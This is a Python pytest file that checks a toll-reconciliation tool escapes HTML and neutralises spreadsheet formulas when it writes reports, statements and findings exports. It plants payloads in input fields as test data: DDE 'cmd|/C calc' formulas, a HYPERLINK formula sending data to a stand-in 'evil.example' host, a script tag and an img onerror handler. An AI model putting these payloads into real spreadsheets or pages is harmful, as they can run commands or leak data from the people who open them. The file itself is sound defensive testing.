"""HTML and formula payloads in every text field that reaches the report and the
statements — station and operator names, bank remittance text, plates, staff ids
— put into a generated night's input files. The report's HTML holds them only
escaped; in its XLSX, in the statements' CSV and XLSX and in the findings
export no text cell starts with a character a spreadsheet takes for a formula
(they get a leading quote) and no formula holds them."""

from __future__ import annotations

import csv
import re
import shutil
import zipfile
from html import unescape
from pathlib import Path

import polars as pl
import pytest
from faultkit import D1, inputs, sample  # fixtures, by name

import cli
from etc.generate import Sample

FORMULAS = ('=HYPERLINK("http://evil.example/?leak","x")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1")
HTML = ("<script>window.__pwned=1</script>", '<img src=x onerror="window.__pwned=2">')
PAYLOADS = FORMULAS + HTML
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def poison(path: Path, column: str, every: int = 1) -> None:
    """Prefix `column` of every `every`-th row of a CSV with a payload (cycled),
    keeping the value after it (remittance text still names its batch)."""
    df = pl.read_csv(path, infer_schema=False)
    values = [(PAYLOADS[i % len(PAYLOADS)] + (v or "")) if i % every == 0 else v
              for i, v in enumerate(df[column].to_list())]
    df.with_columns(pl.Series(column, values, dtype=pl.String)).write_csv(path)


@pytest.fixture(scope="module")
def night(sample: Sample, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("payloads")
    inbox = root / "inbox"
    shutil.copytree(inputs(sample)[0].parent, inbox)
    poison(inbox / "stations.csv", "name")
    poison(inbox / "stations.csv", "operator_name")
    poison(inbox / "providers.csv", "name")
    poison(inbox / "bank_VEC.csv", "remittance")
    poison(inbox / "lanes_20261101.csv", "plate", every=3)
    poison(inbox / "lanes_20261101.csv", "staff_id", every=2)
    db, out = root / "etc.duckdb", root / "out"
    code = cli.main(["nightly", "--db", str(db), "--inbox", str(inbox), "--out", str(out),
                     "--date", D1, "--reveal", "--lang", "en"])
    assert code == 1
    assert cli.main(["statement", "--db", str(db), "--operator", "VEC", "--from", D1, "--to", D1,
                     "--out", str(out / "statement-VEC.xlsx"), "--reveal"]) == 0
    assert cli.main(["findings", "--db", str(db), "--format", "csv", "--reveal",
                     "--out", str(out / "findings.csv")]) == 0
    return out


def check_cell(text: str, where: str) -> None:
    if text.startswith(DANGEROUS) and not re.fullmatch(r"-[0-9][0-9.,]*", text):
        raise AssertionError(f"{where}: {text!r} could run as a formula")


def test_csv_cells_are_neutralised(night: Path) -> None:
    files = [*sorted((night / D1).glob("statement-*.csv")), night / "findings.csv"]
    quoted = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    check_cell(cell, path.name)
                    quoted += cell.startswith(("'=", "'+", "'-", "'@", "'\t"))
    assert quoted > 0  # the payloads did reach the files, neutralised


def xlsx_texts(path: Path) -> tuple[list[str], list[str]]:
    """(every shared string, every formula) of an XLSX file."""
    with zipfile.ZipFile(path) as z:
        shared = z.read("xl/sharedStrings.xml").decode("utf-8")
        sheets = [z.read(n).decode("utf-8") for n in z.namelist()
                  if n.startswith("xl/worksheets/sheet")]
    strings = [unescape(s) for s in re.findall(r"<t[^>]*>(.*?)</t>", shared, re.S)]
    formulas = [unescape(f) for s in sheets for f in re.findall(r"<f[^>]*>(.*?)</f>", s, re.S)]
    return strings, formulas


@pytest.mark.parametrize("name", ["report.xlsx", "statement-VEC.xlsx"])
def test_xlsx_cells_are_neutralised(night: Path, name: str) -> None:
    path = night / D1 / name if name == "report.xlsx" else night / name
    strings, formulas = xlsx_texts(path)
    for text in strings:
        check_cell(text, name)
    assert not [f for f in formulas if "cmd" in f or "HYPERLINK" in f or "SUM(1" in f]
    assert any(s.startswith("'") and "cmd|" in s for s in strings)  # they reached it


def test_html_holds_payloads_only_escaped(night: Path) -> None:
    html = (night / D1 / "report.html").read_text(encoding="utf-8")
    for payload in HTML:
        assert payload not in html
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in html  # reached it, escaped
